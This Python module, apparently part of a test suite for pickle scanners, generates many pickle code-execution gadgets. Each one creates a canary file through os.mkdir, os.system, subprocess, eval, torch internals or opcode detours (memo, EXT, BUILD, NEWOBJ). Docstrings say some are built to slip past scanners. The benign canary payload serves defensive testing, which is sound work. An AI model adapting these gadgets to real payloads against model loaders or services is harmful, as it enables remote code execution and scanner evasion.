"""Ways in which a pickle runs code. Pure (no I/O).

Enters: the path of a canary. Leaves: gadgets, each of which makes a file or folder there when a
careless unpickler reads it, and does nothing else. Some differ in the function that they call,
always with REDUCE; the others make the same call through every opcode and detour that can lead to
it.
"""

from __future__ import annotations

import marshal
import pickle
import shlex
import struct
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from pytest_dcp.faults.hostile.pickle_opcodes import (
    PROTOCOLS,
    Global,
    PickledCall,
    assemble_pickle,
    code_of,
    global_code,
    text_code,
    tuple_code,
)

Encoded = Callable[[int, int], bytes]
"""The opcodes for a protocol and a number of memo entries that were made before."""


@dataclass(frozen=True, slots=True)
class Gadget:
    """One way to run code."""

    name: str
    harm: str
    """The harm, such as "calls os.mkdir"."""
    code: Encoded
    protocols: tuple[int, ...] = PROTOCOLS
    """Protocols under which it works."""
    is_whole: bool = False
    """Whether it must be a pickle of its own: within another pickle it would do nothing."""


def gadgets(canary: str) -> list[Gadget]:
    """All gadgets, with this path as canary. It should be short: sockets take about 100 bytes."""
    return [*_by_callee(canary), *_by_opcode(canary)]


# ---- the function called

MKDIR = Global("os", "mkdir")


def calls(canary: str) -> dict[str, PickledCall]:
    """Calls that make the canary, by the functions they go through."""
    return {
        **_system_calls(canary),
        **_code_calls(canary),
        **_file_calls(canary),
        **_indirect_calls(canary),
    }


def _system_calls(canary: str) -> dict[str, PickledCall]:
    shell = f": > {shlex.quote(canary)}"
    words = ("/bin/sh", "-c", shell)
    return {
        "os.mkdir": PickledCall(MKDIR, (canary,)),
        "os.makedirs": PickledCall(Global("os", "makedirs"), (canary,)),
        "os.mkfifo": PickledCall(Global("os", "mkfifo"), (canary,)),
        "os.symlink": PickledCall(Global("os", "symlink"), ("nowhere", canary)),
        "os.system": PickledCall(Global("os", "system"), (shell,)),
        "posix.system": PickledCall(Global("posix", "system"), (shell,)),
        "subprocess.getoutput": PickledCall(Global("subprocess", "getoutput"), (shell,)),
        "subprocess.call": PickledCall(Global("subprocess", "call"), (words,)),
        "subprocess.run": PickledCall(Global("subprocess", "run"), (words,)),
        "torch.utils.collect_env.run": PickledCall(
            Global("torch.utils.collect_env", "run"), (shell,)
        ),
    }


def _code_calls(canary: str) -> dict[str, PickledCall]:
    python = f"__import__('os').mkdir({canary!r})"
    compiled = PickledCall(
        Global("marshal", "loads"), (marshal.dumps(compile(python, "", "exec")),)
    )
    inner = assemble_pickle(code_of(PickledCall(MKDIR, (canary,)), 2), 2)
    clock = Global("time", "perf_counter")
    return {
        "builtins.eval": PickledCall(Global("builtins", "eval"), (python,)),
        "builtins.exec": PickledCall(Global("builtins", "exec"), (python,)),
        "timeit.timeit": PickledCall(Global("timeit", "timeit"), (python, "pass", clock, 1)),
        "types.FunctionType": PickledCall(
            PickledCall(Global("types", "FunctionType"), (compiled, {})), ()
        ),
        "pickle.loads": PickledCall(Global("pickle", "loads"), (inner,)),
        "_pickle.loads": PickledCall(Global("_pickle", "loads"), (inner,)),
        "pickle._loads": PickledCall(Global("pickle", "_loads"), (inner,)),
        "torch.storage._load_from_bytes": PickledCall(
            Global("torch.storage", "_load_from_bytes"), (inner,)
        ),
    }


def _file_calls(canary: str) -> dict[str, PickledCall]:
    openers = ("builtins.open", "_io.open", "_io.FileIO", "codecs.open", "zipfile.ZipFile")
    return {
        **{name: PickledCall(Global(*name.split(".")), (canary, "w")) for name in openers},
        "logging.FileHandler": PickledCall(Global("logging", "FileHandler"), (canary,)),
        "torch.save": PickledCall(Global("torch", "save"), (1, canary)),
        "urllib.request.urlretrieve": PickledCall(
            Global("urllib.request", "urlretrieve"), ("data:,x", canary)
        ),
        "socketserver.UnixStreamServer": PickledCall(
            Global("socketserver", "UnixStreamServer"), (canary, None)
        ),
    }


def _indirect_calls(canary: str) -> dict[str, PickledCall]:
    module = PickledCall(Global("importlib", "import_module"), ("os",))
    imported = PickledCall(Global("builtins", "__import__"), ("os",))
    lazily = PickledCall(Global("builtins", "map"), (MKDIR, (canary,)))
    get, tuples, sets = (Global("builtins", name) for name in ("getattr", "tuple", "set"))
    found = {
        "builtins.getattr": PickledCall(get, (module, "mkdir")),
        "builtins.__import__": PickledCall(get, (imported, "mkdir")),
        "operator.attrgetter": PickledCall(
            PickledCall(Global("operator", "attrgetter"), ("mkdir",)), (module,)
        ),
        "pydoc.locate": PickledCall(Global("pydoc", "locate"), ("os.mkdir",)),
        "pkgutil.resolve_name": PickledCall(Global("pkgutil", "resolve_name"), ("os:mkdir",)),
    }
    takers = ("builtins.tuple", "builtins.set", "collections.deque", "collections.OrderedDict")
    return {
        **{name: PickledCall(function, (canary,)) for name, function in found.items()},
        **{f"{name} of a map": PickledCall(Global(*name.split(".")), (lazily,)) for name in takers},
        "operator.methodcaller": PickledCall(
            PickledCall(Global("operator", "methodcaller"), ("mkdir", canary)), (module,)
        ),
        "functools.partial": PickledCall(
            PickledCall(Global("functools", "partial"), (MKDIR, canary)), ()
        ),
        "copyreg._reconstructor": PickledCall(
            Global("copyreg", "_reconstructor"), (tuples, tuples, lazily)
        ),
        "weakref.finalize": PickledCall(
            Global("weakref", "finalize"), (PickledCall(sets, ()), MKDIR, canary)
        ),
        "torch._tensor._rebuild_from_type_v2": PickledCall(
            Global("torch._tensor", "_rebuild_from_type_v2"), (MKDIR, sets, (canary,), {})
        ),
    }


def _by_callee(canary: str) -> list[Gadget]:
    found = [
        Gadget(name, f"calls {name}", partial(_reduce_call, call))
        for name, call in calls(canary).items()
    ]
    python, shell = f"__import__('os').mkdir({canary!r})", f": > {shlex.quote(canary)}"
    # Names of Python 2, which protocols below 3 still map to new ones.
    for name, text in (("__builtin__.eval", python), ("commands.getoutput", shell)):
        old = partial(_reduce_call, PickledCall(Global(*name.split(".")), (text,)))
        found.append(Gadget(name, f"calls {name} by its old name", old, (0, 1, 2)))
    return found


def _reduce_call(call: PickledCall, protocol: int, _: int) -> bytes:
    return code_of(call, protocol)


# ---- how to call

DOTTED = (
    ("os", "path.os.mkdir"),
    ("pathlib", "os.mkdir"),
    ("torch.serialization", "os.mkdir"),
    ("torch.distributed.checkpoint.metadata", "os.mkdir"),
    ("torch.distributed.checkpoint.filesystem", "os.mkdir"),
)
"""Names that lead from a module on an allow-list to another module, from protocol 4 on."""
_PLAIN_OBJECT = Global("types", "SimpleNamespace")


def _by_opcode(canary: str) -> list[Gadget]:
    harm = "calls os.mkdir"
    found = [
        Gadget(name, harm, partial(turn, canary), protocols)
        for name, (turn, protocols) in _TURNS.items()
    ]
    for module, name in DOTTED:
        dotted = partial(_reduce_call, PickledCall(Global(module, name), (canary,)))
        found.append(Gadget(f"{module}:{name}", harm, dotted, (4, 5)))
    found.append(Gadget("broken off", harm, partial(_cut_short, canary), is_whole=True))
    return found


def _parts(canary: str, protocol: int) -> tuple[bytes, bytes]:
    """The function, and the path to call it with."""
    return global_code(MKDIR, protocol), text_code(canary, protocol)


def _one(item: bytes, protocol: int) -> bytes:
    return tuple_code(item, 1, protocol)


def _call_twice(canary: str, protocol: int) -> bytes:
    return code_of(PickledCall(MKDIR, (canary,)), protocol)


def _inst(canary: str, protocol: int, _: int) -> bytes:
    return pickle.MARK + text_code(canary, protocol) + pickle.INST + b"os\nmkdir\n"


def _obj(canary: str, protocol: int, _: int) -> bytes:
    return pickle.MARK + b"".join(_parts(canary, protocol)) + pickle.OBJ


def _newobj(canary: str, protocol: int, _: int, new: bytes = pickle.NEWOBJ) -> bytes:
    """A map does nothing until the tuple built from it iterates over it."""
    function, path = _parts(canary, protocol)
    arguments = tuple_code(function + _one(path, protocol), 2, protocol)
    lazily = code_of(Global("builtins", "map"), protocol) + arguments + new
    return code_of(Global("builtins", "tuple"), protocol) + _one(lazily, protocol) + new


def _newobj_ex(canary: str, protocol: int, _: int) -> bytes:
    return _newobj(canary, protocol, _, pickle.EMPTY_DICT + pickle.NEWOBJ_EX)


def _with_attribute(name: str, canary: str, protocol: int, *, slot: bool = False) -> bytes:
    """An object with the function as its attribute of that name."""
    code = code_of(_PLAIN_OBJECT, protocol) + pickle.EMPTY_TUPLE + pickle.NEWOBJ
    function = _parts(canary, protocol)[0]
    fields = pickle.EMPTY_DICT + text_code(name, protocol) + function + pickle.SETITEM
    state = tuple_code(pickle.NONE + fields, 2, protocol) if slot else fields
    return code + state + pickle.BUILD


def _build(canary: str, protocol: int, _: int, *, slot: bool = False) -> bytes:
    code = _with_attribute("__setstate__", canary, protocol, slot=slot)
    return code + text_code(canary, protocol) + pickle.BUILD


def _append(canary: str, protocol: int, _: int) -> bytes:
    code = _with_attribute("append", canary, protocol)
    return code + text_code(canary, protocol) + pickle.APPEND


def _appends(canary: str, protocol: int, _: int, *, name: str = "append") -> bytes:
    """The unpickler looks up `extend` first, and gets a list's."""
    code = _with_attribute(name, canary, protocol)
    return code + pickle.MARK + text_code(canary, protocol) + pickle.APPENDS


def _additems(canary: str, protocol: int, _: int) -> bytes:
    code = _with_attribute("add", canary, protocol)
    return code + pickle.MARK + text_code(canary, protocol) + pickle.ADDITEMS


def _ext(
    canary: str, protocol: int, _: int, *, function: Global, number: int, fetch: bytes
) -> bytes:
    """The function is registered as an extension, and the extension's number then refers to it."""
    registration = PickledCall(
        Global("copyreg", "add_extension"), (function.module, function.name, number)
    )
    path = _one(text_code(canary, protocol), protocol)
    return code_of(registration, protocol) + pickle.POP + fetch + path + pickle.REDUCE


def _memo(canary: str, protocol: int, base: int, *, width: str) -> bytes:
    """The function is stored in the memo, popped off the stack, and fetched again."""
    function, path = _parts(canary, protocol)
    put, get = {
        "text": (b"p%d\n" % base, b"g%d\n" % base),
        "byte": (pickle.BINPUT + bytes([base]), pickle.BINGET + bytes([base])),
        "long": (
            pickle.LONG_BINPUT + struct.pack("<I", base),
            pickle.LONG_BINGET + struct.pack("<I", base),
        ),
        "next": (pickle.MEMOIZE, pickle.LONG_BINGET + struct.pack("<I", base)),
    }[width]
    return function + put + pickle.POP + get + _one(path, protocol) + pickle.REDUCE


def _memo_twice(canary: str, protocol: int, base: int) -> bytes:
    """The memo entry that is used differs from the one that a scanner saw first."""
    function, path = _parts(canary, protocol)
    number = struct.pack("<I", base)
    harmless = code_of(Global("collections", "OrderedDict"), protocol)
    puts = [one + pickle.LONG_BINPUT + number + pickle.POP for one in (harmless, function)]
    return b"".join([*puts, pickle.LONG_BINGET, number, _one(path, protocol), pickle.REDUCE])


def _memo_names(canary: str, protocol: int, base: int) -> bytes:
    """The names come out of the memo, in the order needed."""
    first, second = (struct.pack("<I", base + at) for at in (0, 1))
    texts = [(text_code("mkdir", protocol), first), (text_code("os", protocol), second)]
    puts = [text + pickle.LONG_BINPUT + number + pickle.POP for text, number in texts]
    gets = [pickle.LONG_BINGET + number for number in (second, first)]
    path = _one(text_code(canary, protocol), protocol)
    return b"".join([*puts, *gets, pickle.STACK_GLOBAL, path, pickle.REDUCE])


def _dup(canary: str, protocol: int, _: int) -> bytes:
    function, path = _parts(canary, protocol)
    return function + pickle.DUP + _one(path, protocol) + pickle.REDUCE + pickle.TUPLE2


def _call_and_pop(canary: str, protocol: int, _: int) -> bytes:
    """The result is thrown away: the value is None."""
    return pickle.MARK + _call_twice(canary, protocol) + pickle.POP_MARK + pickle.NONE


def _in(head: bytes, tail: bytes, canary: str, protocol: int, _: int) -> bytes:
    """The result becomes a part of a container."""
    return head + _call_twice(canary, protocol) + tail


def _deep(canary: str, protocol: int, _: int) -> bytes:
    return _call_twice(canary, protocol) + pickle.TUPLE1 * 50


def _cut_short(canary: str, protocol: int, _: int) -> bytes:
    """No scanner that reads the whole pickle first reaches this point."""
    return _call_twice(canary, protocol) + b"\xff"


_TURNS: dict[str, tuple[Callable[[str, int, int], bytes], tuple[int, ...]]] = {
    "INST": (_inst, PROTOCOLS),
    "OBJ": (_obj, PROTOCOLS),
    "NEWOBJ": (_newobj, PROTOCOLS[2:]),
    "NEWOBJ_EX": (_newobj_ex, PROTOCOLS[4:]),
    "BUILD with a __setstate__": (_build, PROTOCOLS),
    "BUILD with a __setstate__ in a slot": (partial(_build, slot=True), PROTOCOLS),
    "APPEND to what has append": (_append, PROTOCOLS),
    "APPENDS to what has append": (_appends, PROTOCOLS),
    "ADDITEMS to what has add": (_additems, PROTOCOLS),
    "EXT1": (
        partial(_ext, function=Global("os", "mkdir"), number=0x71, fetch=b"\x82\x71"),
        PROTOCOLS,
    ),
    "EXT2": (
        partial(_ext, function=Global("posix", "mkdir"), number=0x7171, fetch=b"\x83\x71\x71"),
        PROTOCOLS,
    ),
    "EXT4": (
        partial(
            _ext, function=Global("os", "makedirs"), number=0x717171, fetch=b"\x84\x71\x71\x71\0"
        ),
        PROTOCOLS,
    ),
    "PUT and GET": (partial(_memo, width="text"), PROTOCOLS),
    "BINPUT and BINGET": (partial(_memo, width="byte"), PROTOCOLS),
    "LONG_BINPUT and LONG_BINGET": (partial(_memo, width="long"), PROTOCOLS),
    "MEMOIZE and LONG_BINGET": (partial(_memo, width="next"), PROTOCOLS),
    "a memo entry that is replaced": (_memo_twice, PROTOCOLS),
    "names out of the memo": (_memo_names, PROTOCOLS[4:]),
    "DUP": (_dup, PROTOCOLS),
    "POP_MARK": (_call_and_pop, PROTOCOLS),
    "a dict's key": (partial(_in, b"}", b"Ns"), PROTOCOLS),
    "a dict's value": (partial(_in, b"}N", b"s"), PROTOCOLS),
    "an item of a list": (partial(_in, b"](", b"e"), PROTOCOLS),
    "a member of a set": (partial(_in, b"\x8f(", b"\x90"), PROTOCOLS),
    "a member of a frozenset": (partial(_in, b"(", b"\x91"), PROTOCOLS),
    "a persistent id": (partial(_in, b"", b"Q"), PROTOCOLS),
    "deep down": (_deep, PROTOCOLS),
}
